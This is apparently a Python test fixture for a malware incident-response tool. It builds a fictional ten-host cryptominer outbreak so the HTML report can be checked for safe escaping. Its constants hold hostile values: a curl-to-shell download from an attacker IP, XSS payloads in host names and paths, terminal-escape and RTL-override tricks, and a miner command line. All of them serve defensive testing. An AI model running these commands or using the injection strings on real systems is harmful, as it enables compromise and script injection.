"""A ten-host outbreak written straight into a case store, for the report tests.

The story mixes the seed cases: a website upload exploit on ``web-01`` (patient zero), a
private key on it that opens ``ansible-01``, Ansible pushing the miner to three app servers,
EternalBlue from ``app-01`` to a Windows file server, SSH from ``app-02`` to a host whose name
is hostile markup, a suspicious database server, a clean mail server and an unknown printer.
Evidence strings carry the hostile values the HTML must neutralise (``HOSTILE_*``).
"""

from __future__ import annotations

import datetime as dt
from dataclasses import dataclass, field
from typing import Any

from deminer.case import Case
from deminer.detect.finding import Finding
from deminer.detect.iocs import load_shipped

T0 = dt.datetime(2024, 3, 1, 8, 12, 5)
POOL = "pool.supportxmr.com"
POOL_IPS = ("91.121.87.10", "94.23.247.226")
C2 = "i.haqo.net"
ATTACKER = "45.227.254.8"
WALLET = "4" + "8" + "A" * 93          # 95 characters, Monero shape
MINER_SHA = "a" * 63 + "1"
DROPPER_SHA = "b" * 63 + "2"
PAYLOAD_URL = "http://45.227.254.8/x.sh"
KEY_FP = "SHA256:Zm9vYmFyYmF6cXV4MTIzNDU2Nzg5MGFiY2RlZg"
HOSTILE_HOST = "evil<script>alert(1)</script>\"onload=alert(2) x='\u202egnp.exe\x1b[31m"
HOSTILE_CMD = ("curl -s http://45.227.254.8/x.sh</style><img src=x onerror=alert(3)>"
               "<svg onload=alert(4)></svg> | sh \u202e\x07")
HOSTILE_PATH = "/tmp/.x/</textarea><iframe src=//evil.example/>\"onmouseover=alert(5).sh"


@dataclass
class Outbreak:
    findings: list[Finding] = field(default_factory=list)
    hosts: list[str] = field(default_factory=list)


def _f(out: Outbreak, rule: str, title: str, severity: str, host: str, minutes: int, entity: str,
       summary: str, attack: tuple[str, ...] = ("T1496",), **evidence: Any) -> Finding:
    f = Finding(rule, title, severity, attack, host, T0 + dt.timedelta(minutes=minutes), entity,
                summary, evidence)
    out.findings.append(f)
    return f


def build(case: Case) -> Outbreak:
    """Fill ``case`` with the outbreak; returns what was written."""
    load_shipped(case)
    out = Outbreak()
    names = ["web-01", "ansible-01", "app-01", "app-02", "app-03", "win-fs-01", HOSTILE_HOST,
             "db-01", "mail-01", "printer-01"]
    out.hosts = names
    case.add("hosts", [{"host": h, "hostname": h, "os": "windows" if h.startswith("win") else "linux",
                        "ips": [f"10.0.0.{10 + i}"]} for i, h in enumerate(names)])
    exploit = _f(out, "initial_access.web_exploit_request", "Exploit request", "high", "web-01", 0,
                 ATTACKER, "Upload exploit from 45.227.254.8", ("T1190",), **{"source.ip": ATTACKER,
                 "source": "/var/log/nginx/access.log", "line": 4711, "url.path": "/upload.php"})
    key = _f(out, "lateral_movement.stored_private_key", "Unencrypted SSH private key stored on the host",
             "medium", "web-01", 30, "/root/.ssh/id_rsa", "Key opens ansible-01", ("T1552.004",),
             path="/root/.ssh/id_rsa", targets="ansible-01", count=1)
    orch = _f(out, "lateral_movement.orchestration_config", "Orchestration configuration", "medium",
              "ansible-01", 50, "/etc/ansible/hosts", "Inventory reaches 3 hosts", ("T1072",),
              location="/etc/ansible/hosts", targets="app-01 app-02 app-03", count=3)
    _f(out, "impact.net_stratum_session", "Host mines over Stratum", "critical", "web-01", 20,
       f"{POOL_IPS[0]}:3333", "Stratum login with a Monero wallet", ("T1496", "T1071"),
       **{"source.ip": "10.0.0.10", "destination.ip": POOL_IPS[0], "destination.port": 3333,
          "destination.domain": POOL, "wallet": WALLET, "login": WALLET + ".w1", "source": "zeek/conn.log",
          "source_line": 12})
    _f(out, "command_and_control.net_pool_dns", "Host resolves a pool", "high", "web-01", 19, POOL,
       "Lookup of a pool domain", ("T1071.004",), qname=POOL, family="mining-pool",
       answers=", ".join(POOL_IPS))
    _f(out, "command_and_control.ioc_domain_lookup", "DNS lookup of a known malware domain", "high",
       "win-fs-01", 200, C2, "Lookup of the DTLMiner C2", ("T1071.004",), qname=C2, family="DTLMiner")
    _f(out, "persistence.cron_pipe_to_shell", "Scheduled job downloads a script and pipes it to a shell",
       "high", "app-01", 95, "/var/spool/cron/crontabs/root:3", "Cron pipes a download to sh",
       ("T1053.003",), kind="cron", location="/var/spool/cron/crontabs/root", line=3, command=HOSTILE_CMD)
    _f(out, "persistence.autostart_from_tmp", "Autostart runs from /tmp", "high", HOSTILE_HOST, 150,
       HOSTILE_PATH, "systemd unit runs " + HOSTILE_PATH, ("T1543.002",), kind="systemd",
       location="/etc/systemd/system/" + HOSTILE_HOST + ".service", line=7, command=HOSTILE_PATH)
    _f(out, "persistence.attacker_authorized_key", "SSH authorized key planted by an attacker", "high",
       "app-02", 100, "/root/.ssh/authorized_keys:1", "Key with comment mdrfckr", ("T1098.004",),
       location="/root/.ssh/authorized_keys", line=1, fingerprint=KEY_FP, key_type="ssh-rsa",
       comment="mdrfckr")
    _f(out, "lateral_movement.net_eternalblue_traits", "SMB traffic carries EternalBlue traits", "high",
       "app-01", 180, "10.0.0.12 -> 10.0.0.15", "DoublePulsar probe", ("T1210",),
       **{"source.ip": "10.0.0.12", "destination.ip": "10.0.0.15", "source": "smb.pcap", "records": 4})
    _f(out, "credential_access.ssh_brute_force", "SSH password guessing", "medium", "db-01", 300,
       "203.0.113.50", "400 failed logins", ("T1110",), **{"source.ip": "203.0.113.50", "failures": 400})
    for i, h in enumerate(["web-01", "ansible-01", "app-01", "app-02", "app-03", HOSTILE_HOST]):
        pid = 4242 + i
        case.add("processes", [{"host": h, "pid": pid, "name": "kworkerds", "exe": "/tmp/.x/kworkerds",
                                "cmdline": f"/tmp/.x/kworkerds -o stratum+tcp://{POOL}:3333 -u {WALLET}",
                                "exe_sha256": MINER_SHA}])
        _f(out, "impact.miner_process", "Miner process identified", "critical", h, 25 + i * 40,
           f"pid {pid}", f"kworkerds (pid {pid}) mines to {POOL}", ("T1496",), pid=pid,
           exe="/tmp/.x/kworkerds", cmdline=f"/tmp/.x/kworkerds -o stratum+tcp://{POOL}:3333 -u {WALLET}",
           raddr=f"{POOL_IPS[1]}:3333", exe_sha256=MINER_SHA)
    _f(out, "command_and_control.known_bad_file_hash", "File matches a known bad SHA-256", "high",
       "win-fs-01", 210, "C:\\Windows\\Temp\\svchost.exe", "DTLMiner dropper", ("T1105",),
       path="C:\\Windows\\Temp\\svchost.exe", sha256=DROPPER_SHA, family="DTLMiner")
    _f(out, "execution.net_payload_download", "Download from a bare IP", "medium", "app-01", 94,
       PAYLOAD_URL, "Script fetched from a bare IP", ("T1105",), url=PAYLOAD_URL, server=ATTACKER)
    case.add("findings", [f.row() for f in out.findings])
    case.add("dns", [{"host": "web-01", "ts": T0 + dt.timedelta(minutes=19), "client": "10.0.0.10",
                      "qname": POOL, "qtype": "A", "answers": list(POOL_IPS), "rcode": "NOERROR"}])
    case.add("flows", [{"ts": T0 + dt.timedelta(minutes=21), "src_ip": "10.0.0.12", "src_port": 50000,
                        "dst_ip": "185.112.156.27", "dst_port": 5555, "proto": "tcp", "app": "stratum",
                        "data": '{"login": "' + WALLET + '+1000", "methods": ["login"]}'}])
    miner = {f.host: f for f in out.findings if f.rule == "impact.miner_process"}
    case.add("host_verdicts", [
        _verdict("web-01", "infected", 0, exploit.id, patient_zero=True,
                 entry_vector="web upload exploit (T1190)",
                 reason="earliest infection: exploit request from 45.227.254.8 at 08:12 "
                        f"[{exploit.id}] then a miner 20 minutes later; no host infected before it"),
        _verdict("ansible-01", "infected", 65, miner["ansible-01"].id, reason="miner; key from web-01"),
        _verdict("app-01", "infected", 105, miner["app-01"].id, reason="miner pushed by Ansible"),
        _verdict("app-02", "infected", 145, miner["app-02"].id, reason="miner pushed by Ansible"),
        _verdict("app-03", "infected", 185, miner["app-03"].id, reason="miner pushed by Ansible"),
        _verdict("win-fs-01", "infected", 200, None, reason="DTLMiner dropper after EternalBlue",
                 at_risk="no MS17-010 update among 12 installed updates; "
                         "reachable from infected app-01 on port 139,445"),
        _verdict(HOSTILE_HOST, "infected", 225, miner[HOSTILE_HOST].id, reason="miner " + HOSTILE_CMD),
        _verdict("db-01", "suspicious", None, None, reason="password guessing, no miner",
                 at_risk='["has account root, guessed on infected web-01 (shared password?)"]'),
        _verdict("mail-01", "clean", None, None, reason="no findings; full evidence collected"),
        _verdict("printer-01", "unknown", None, None, reason="no evidence collected",
                 missing="no logs; no process list"),      # how correlate joins them
    ])
    case.add("infection_edges", [
        _edge("web-01", "ansible-01", "ssh_key", 60, ("T1021.004",), "high",
              "web-01's /root/.ssh/id_rsa opens ansible-01", [key.id]),
        *[_edge("ansible-01", h, "ansible", 100 + 40 * i, ("T1072",), "high",
                "ansible-playbook run from ansible-01", [orch.id])
          for i, h in enumerate(["app-01", "app-02", "app-03"])],
        _edge("app-01", "win-fs-01", "eternalblue", 195, ("T1210",), "medium",
              "DoublePulsar probe then SMB exploit", []),
        _edge("app-02", HOSTILE_HOST, "credential_reuse " + HOSTILE_CMD[:30], 220, ("T1021.004",), "low",
              "password reuse " + HOSTILE_PATH, []),
    ])
    return out


def _verdict(host: str, verdict: str, minutes: int | None, first: str | None, **extra: Any) -> dict[str, Any]:
    return {"host": host, "verdict": verdict, "first_finding": first,
            "infected_at": T0 + dt.timedelta(minutes=minutes) if minutes is not None else None,
            "patient_zero": False, **extra}


def _edge(src: str, dst: str, technique: str, minutes: int, attack: tuple[str, ...], confidence: str,
          reason: str, findings: list[str]) -> dict[str, Any]:
    return {"src_host": src, "dst_host": dst, "technique": technique,
            "ts": T0 + dt.timedelta(minutes=minutes), "attack": list(attack), "confidence": confidence,
            "reason": reason, "findings": findings}
